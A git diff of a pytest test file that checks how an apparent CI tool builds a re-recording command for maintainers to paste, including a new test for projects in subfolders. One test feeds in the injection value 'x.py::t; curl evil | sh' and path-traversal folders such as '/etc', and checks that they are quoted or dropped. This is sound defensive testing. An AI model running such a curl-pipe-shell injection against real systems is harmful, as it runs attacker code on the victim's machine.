@@ -7,7 +7,7 @@ import re
 
 import pytest
 
-from pytest_llmops.github import reporting, verdict
+from pytest_llmops.github.maintaining import Command
 from pytest_llmops.reports.pull_request import NeedsRecording
 from tests.action.conftest import SHA, Shop
 from tests.action.hub import READ_ONLY
@@ -110,16 +110,17 @@ NO_NAMES = (
 
 @pytest.mark.parametrize("name", NO_NAMES)
 def test_no_name_becomes_an_option_of_the_command_that_a_maintainer_pastes(name: str) -> None:
-    need = verdict.recorded_by(NeedsRecording(name), reporting.command(7, ""))
+    need = Command(7).of(NeedsRecording(name))
     assert need.command == "gh pr checkout 7 && pytest --llm-record=refresh"
     assert need.whole
-    quoted = verdict.recorded_by(NeedsRecording("x.py::t; curl evil | sh"), "pytest")
+    quoted = Command().of(NeedsRecording("x.py::t; curl evil | sh"))
     assert quoted.command == "pytest 'x.py::t; curl evil | sh' --llm-record=refresh"
 
 
 @pytest.mark.parametrize("folder", ["/etc", "../elsewhere", "a/../../b", "-", "--", "a\nb", "C:\\x"])
 def test_no_folder_leads_out_of_the_checkout(folder: str) -> None:
-    assert reporting.command(7, folder) == "gh pr checkout 7 && pytest"
+    need = Command(7, folder, folder).of(NeedsRecording("x.py"))
+    assert need.command == "gh pr checkout 7 && pytest x.py --llm-record=refresh"
 
 
 def test_the_command_of_a_forged_artifact(shop: Shop, main: Shop) -> None:
@@ -217,3 +218,28 @@ def test_dependabot_and_a_repository_without_keys_are_neutral_too(shop: Shop, ma
     assert (job.conclusion, job.outputs["conclusion"]) == ("success", "needs-recording"), job.log
     job = shop.pull_request(7, key=False, inputs={"mode": "replay"})
     assert job.conclusion == "failure", "who chose replay records on their own machine, and can"
+
+
+def test_a_project_whose_node_ids_begin_above_it(shop: Shop) -> None:
+    for name in ("app.py", "conftest.py", "prompt.txt", "test_shop.py", "cases.jsonl"):
+        shop.file(f"app/{name}", (shop.folder / name).read_text())
+        (shop.folder / name).unlink()
+    shop.file("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-ra'\n")
+    inside = {"working-directory": "app"}
+    shop.record()
+    assert shop.push(inputs=inside).conclusion == "success"
+    good = (shop.folder / "app/app.py").read_text()
+    shop.file("app/app.py", good.replace('["content"]', '["content"][:0]'))
+    shop.hub.files[7] = ["app/cases.jsonl"]
+    job = shop.pull_request(inputs=inside)
+    assert job.outputs["conclusion"] == "regression", job.log
+    assert {one.options["file"] for one in job.annotations() if "file" in one.options} == {"app/test_shop.py"}
+    assert "datasets: <code>app/cases.jsonl</code>" in shop.hub.comments[7][0]["body"]
+    shop.file("app/app.py", good)
+    shop.file("app/prompt.txt", "In short: ")
+    job = fork_run(shop, number=8, branch="b", inputs=inside)
+    assert job.outputs["conclusion"] == "needs-recording", job.log
+    shop.comment_job(shop.runs)
+    (comment,) = shop.hub.comments[8]
+    wanted = "gh pr checkout 8 &amp;&amp; cd app &amp;&amp; pytest test_shop.py::test_shop --llm-record=refresh"
+    assert f"<pre>{wanted}</pre>" in comment["body"]
